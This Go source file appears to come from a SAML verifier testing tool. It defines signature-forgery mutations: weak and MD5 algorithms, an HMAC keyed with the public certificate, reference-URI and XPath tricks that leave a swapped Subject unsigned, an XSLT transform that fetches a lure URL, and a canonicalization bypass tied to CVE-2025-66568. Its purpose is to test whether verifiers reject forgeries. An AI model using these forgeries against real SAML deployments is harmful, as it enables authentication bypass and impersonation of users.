package saml

import (
	"crypto"
	"crypto/hmac"
	_ "crypto/md5" // as a mutation
	"crypto/sha1"
	"crypto/sha256"
	"encoding/base64"
	"hash"

	"github.com/beevik/etree"
	dsig "github.com/russellhaering/goxmldsig"
)

// Algorithms of XML Signature that nobody should use, or that say more than a SAML signature may.
const (
	rsaSHA1       = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
	rsaMD5        = "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"
	digestMD5     = "http://www.w3.org/2001/04/xmldsig-more#md5"
	hmacSHA1      = "http://www.w3.org/2000/09/xmldsig#hmac-sha1"
	hmacSHA256    = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
	transformPath = "http://www.w3.org/TR/1999/REC-xpath-19991116"
	transformXSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
	transformText = "http://www.w3.org/2000/09/xmldsig#base64"
	nsXSLT        = "http://www.w3.org/1999/XSL/Transform"
)

// algorithmMutations are about how a signature is computed. What the genuine key signs in spite of the rules
// names the person; what it does not cover names the stranger.
func algorithmMutations() []Mutation {
	return []Mutation{
		seals("saml-sha1", rows("SAML-SIG-11"), "signed with RSA-SHA1 (SAML2int SDP-ALG)", func(_ forgery, s *seal) { s.method = rsaSHA1 }),
		signedInfo("saml-sha1-digest", "SAML-SIG-11", "the digest is SHA-1 under an RSA-SHA256 signature (SAML2int SDP-ALG)",
			func(_ forgery, reference, signed *etree.Element) error {
				return redigest(reference, signed, digestSHA1, crypto.SHA1)
			}),
		seals("saml-md5", rows("SAML-SIG-11"), "signed with RSA-MD5 over an MD5 digest (SAML2int SDP-ALG)", func(_ forgery, s *seal) {
			signer := s.credential
			s.adapt = func(signature, signed *etree.Element) error {
				signature.FindElement("./SignedInfo/SignatureMethod").CreateAttr("Algorithm", rsaMD5)
				if err := redigest(referenceOf(signature), signed, digestMD5, crypto.MD5); err != nil {
					return err
				}
				return sealAgain(signature, signer.signs(crypto.MD5))
			}
		}),
		hmacKeyed("saml-hmac-sha1", hmacSHA1, sha1.New),
		hmacKeyed("saml-hmac-sha256", hmacSHA256, sha256.New),
		tampered("saml-reference-elsewhere", "SAML-SIG-12", "the Reference names another element (Core 5.4.2: the root of the signed)",
			func(s *etree.Element) { referenceOf(s).CreateAttr("URI", "#"+newID()) }),
		signedInfo("saml-reference-empty", "SAML-SIG-12", "the Reference's URI is empty (Core 5.4.2: the ID of the root of the signed)",
			func(_ forgery, reference, _ *etree.Element) error { reference.CreateAttr("URI", ""); return nil }),
		signedInfo("saml-reference-xpointer", "SAML-SIG-12", "the Reference is an xpointer expression (Core 5.4.2: the ID)",
			func(_ forgery, reference, signed *etree.Element) error {
				reference.CreateAttr("URI", "#xpointer(id('"+signed.SelectAttrValue("ID", "")+"'))")
				return nil
			}),
		signedInfo("saml-two-references", "SAML-SIG-12", "there are two References (Core 5.4.2: a single one)",
			func(_ forgery, reference, _ *etree.Element) error {
				reference.Parent().AddChild(reference.Copy())
				return nil
			}),
		{Name: "saml-reference-itself", Rows: rows("SAML-SIG-12"), Text: "the Reference names its own SignedInfo, so that nothing is signed (Core 5.4.2)",
			before: func(f forgery, m *message) {
				rename(m.assertion, f.stranger)
				m.seal.adapt = adaptation(f, m.seal.credential, func(_ forgery, reference, _ *etree.Element) error {
					info := reference.Parent()
					info.CreateAttr("Id", "assay-signed-info")
					reference.CreateAttr("URI", "#assay-signed-info")
					declared := info.Copy()
					declared.CreateAttr("xmlns:"+info.Space, nsSignature)
					return redigest(reference, declared, "http://www.w3.org/2001/04/xmlenc#sha256", crypto.SHA256)
				})
			}},
		{Name: "saml-transform-xpath", Rows: rows("SAML-SIG-13"), Text: "an XPath transform leaves the Subject out of what is signed, and it is changed (Core 5.4.4)",
			before: func(f forgery, m *message) {
				rename(m.assertion, f.stranger)
				m.seal.adapt = adaptation(f, m.seal.credential, withoutSubject)
			}},
		signedInfo("saml-transform-xslt", "SAML-SIG-13", "there is an XSLT transform, whose stylesheet fetches a URL (Core 5.4.4)",
			func(f forgery, reference, _ *etree.Element) error {
				addTransform(reference, transformXSLT).AddChild(stylesheet(f.lure))
				return nil
			}, "SAML-XML-12"),
		signedInfo("saml-transform-base64", "SAML-SIG-13", "there is a base64 transform (Core 5.4.4)",
			func(_ forgery, reference, _ *etree.Element) error {
				addTransform(reference, transformText)
				return nil
			}),
		seals("saml-c14n-comments", rows("SAML-SIG-14"), "canonicalised with comments (Core 5.4.3: should be exclusive, without)",
			func(_ forgery, s *seal) {
				s.canonical = dsig.MakeC14N10ExclusiveWithCommentsCanonicalizerWithPrefixList("")
			}),
		seals("saml-inclusive-c14n", rows("SAML-SIG-14"), "canonicalised inclusively, version 1.1 (Core 5.4.3: should be exclusive)",
			func(_ forgery, s *seal) { s.canonical = dsig.MakeC14N11Canonicalizer() }),
		seals("saml-inclusive-c14n-1.0", rows("SAML-SIG-14"), "canonicalised inclusively, version 1.0 (Core 5.4.3: should be exclusive)",
			func(_ forgery, s *seal) { s.canonical = dsig.MakeC14N10RecCanonicalizer() }),
		{Name: "saml-void-canonicalization", Rows: rows("SAML-SIG-21"),
			Text: "a relative namespace, on which canonicalization may fail, and the digest of nothing signed by the genuine key (CVE-2025-66568)",
			before: func(f forgery, m *message) {
				rename(m.assertion, f.stranger)
				m.response.CreateAttr("xmlns:assay", "1")
				m.assertion.CreateAttr("xmlns:assay", "1")
				m.seal.adapt = adaptation(f, m.seal.credential, func(_ forgery, reference, _ *etree.Element) error {
					nothing := sha256.Sum256(nil)
					reference.SelectElement("DigestValue").SetText(base64.StdEncoding.EncodeToString(nothing[:]))
					return nil
				})
			}},
	}
}

// signedInfo changes the Reference and signs anew with the genuine key.
func signedInfo(name, row, about string, change func(f forgery, reference, signed *etree.Element) error, more ...string) Mutation {
	return seals(name, append(rows(row), more...), about, func(f forgery, s *seal) { s.adapt = adaptation(f, s.credential, change) })
}

func adaptation(f forgery, signer *credential, change func(f forgery, reference, signed *etree.Element) error) func(signature, signed *etree.Element) error {
	return func(signature, signed *etree.Element) error {
		if err := change(f, referenceOf(signature), signed); err != nil {
			return err
		}
		return sealAgain(signature, signer.signs(crypto.SHA256))
	}
}

func referenceOf(signature *etree.Element) *etree.Element {
	return signature.FindElement("./SignedInfo/Reference")
}

func redigest(reference, signed *etree.Element, algorithm string, hash crypto.Hash) error {
	value, err := digest(hash, signed)
	if err != nil {
		return err
	}
	reference.SelectElement("DigestMethod").CreateAttr("Algorithm", algorithm)
	reference.SelectElement("DigestValue").SetText(value)
	return nil
}

// hmacKeyed signs with the genuine certificate as the secret, which everybody knows.
func hmacKeyed(name, method string, newHash func() hash.Hash) Mutation {
	return Mutation{Name: name, Rows: rows("SAML-SIG-10"), Text: "an HMAC, whose secret is the text of the genuine certificate (XML Signature Best Practices 2.1)",
		before: func(f forgery, m *message) {
			rename(m.assertion, f.stranger)
			secret := m.seal.credential.cert
			m.seal.adapt = func(signature, _ *etree.Element) error {
				signature.FindElement("./SignedInfo/SignatureMethod").CreateAttr("Algorithm", method)
				return sealAgain(signature, func(text []byte) ([]byte, error) {
					mac := hmac.New(newHash, secret)
					mac.Write(text)
					return mac.Sum(nil), nil
				})
			}
		}}
}

func withoutSubject(_ forgery, reference, signed *etree.Element) error {
	path := child(addTransform(reference, transformPath), "XPath", "not(ancestor-or-self::saml:Subject)")
	path.CreateAttr("xmlns:saml", nsAssertion)
	rest := signed.Copy()
	for _, subject := range rest.FindElements("//Subject") {
		subject.Parent().RemoveChild(subject)
	}
	value, err := digest(crypto.SHA256, rest)
	if err != nil {
		return err
	}
	reference.SelectElement("DigestValue").SetText(value)
	return nil
}

func addTransform(reference *etree.Element, algorithm string) *etree.Element {
	transform := child(reference.SelectElement("Transforms"), "Transform", "")
	transform.CreateAttr("Algorithm", algorithm)
	return transform
}

// stylesheet is one that copies a document from a URL.
func stylesheet(url string) *etree.Element {
	sheet := element("xsl", "stylesheet", nsXSLT)
	sheet.CreateAttr("version", "1.0")
	template := child(sheet, "template", "")
	template.CreateAttr("match", "/")
	child(template, "copy-of", "").CreateAttr("select", "document('"+url+"')")
	return sheet
}
